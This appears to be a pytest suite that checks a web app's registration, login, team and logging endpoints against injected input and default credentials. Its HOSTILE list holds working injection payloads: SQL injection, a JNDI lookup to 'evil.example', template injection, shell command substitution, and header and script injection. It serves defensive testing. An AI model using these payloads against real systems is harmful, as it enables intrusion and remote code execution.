"""Text that would like to be read as something else: SQL, HTML, JSON, a line of the log."""

import json

import pytest

from tests.factories import Registration, register

HOSTILE = [
    "' OR 1=1--",
    '"; DROP TABLE users;--',
    "1; SELECT pg_sleep(5)",
    "%27%20OR%201=1",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
    "{0.__class__}%s%n",
    "$(touch /tmp/muster-was-here)",
    '"},"is_admin":true,"x":{"',
    "<script>alert(1)</script>",
    "\r\nSet-Cookie: a=b",
    "\u2028\u2029\u0000",
]
hostile = pytest.mark.parametrize("text", HOSTILE)


@pytest.mark.asvs("1.2.4", "1.3.3")
@hostile
def test_no_text_is_read_as_sql(client, text):
    alice = register(client, username="alice")
    for body in (Registration(username=text), Registration(password=text, username="x" + text)):
        assert client.post("/register", json=body).status_code == 422
    for body in ({"username": text, "password": text}, {"username": "alice", "password": text}):
        assert client.post("/login", json=body).status_code == 401
    assert client.post("/refresh", json={"refresh_token": text}).status_code == 401
    assert client.patch("/me", json={"email": text}, headers=alice.headers).status_code == 422
    users = client.get("/users", headers=alice.headers).json["items"]
    assert [user["username"] for user in users] == ["alice"]


@pytest.mark.asvs("1.2.4")
@hostile
def test_no_query_is_read_as_sql(client, alice, text):
    for query in ({"cursor": text}, {"limit": text}):
        answer = client.get("/users", query_string=query, headers=alice.headers)
        assert (answer.status_code, answer.json["error"]) == (422, "invalid_input")


@pytest.mark.asvs("1.2.1", "1.2.3", "1.1.2")
@hostile
def test_the_name_of_a_field_is_repeated_as_text_and_nothing_else(client, text):
    answer = client.post("/login", json=Registration() | {text: 1})
    assert answer.mimetype == "application/json"
    assert answer.json["errors"] == {"json": {text: ["Unknown field."]}}
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.asvs("1.2.1", "1.2.3", "1.1.2")
@pytest.mark.parametrize("text", [each for each in HOSTILE if each.isprintable()])
def test_the_name_of_a_team_is_shown_as_it_was_typed(client, alice, text):
    team = client.post("/teams", json={"name": text}, headers=alice.headers).json
    assert client.get(f"/teams/{team['id']}", headers=alice.headers).json["name"] == text
    assert "is_admin" not in team


@pytest.mark.asvs("1.1.1")
def test_an_address_is_decoded_once(client, alice):
    for written in ("%2531", f"%25{alice.id}", f"{alice.id}%00", f"%2f{alice.id}"):
        assert client.get(f"/users/{written}", headers=alice.headers).status_code == 404


@pytest.mark.asvs("16.4.1")
@hostile
def test_whatever_is_asked_for_is_one_line_of_the_log(client, caplog, text):
    caplog.set_level("INFO", "muster.access")
    client.get("/nothing", headers={"User-Agent": "x", "X-Request-ID": json.dumps(text)})
    client.open("/" + text)
    for record in caplog.records:
        assert "\n" not in record.getMessage()


@pytest.mark.asvs("6.3.2")
def test_a_new_database_holds_nobody_and_common_accounts_open_nothing(client, app):
    for name in ("admin", "root", "test", "muster", "sa"):
        for password in (name, "password", "admin", ""):
            answer = client.post("/login", json={"username": name, "password": password})
            assert answer.status_code == 401
    somebody = register(client)
    assert len(client.get("/users", headers=somebody.headers).json["items"]) == 1


@pytest.mark.asvs("6.4.2")
def test_no_field_is_a_hint_or_a_secret_question(client):
    document = client.get("/openapi.json").text.lower()
    assert not [word for word in ('hint"', "question", "secret_answer") if word in document]
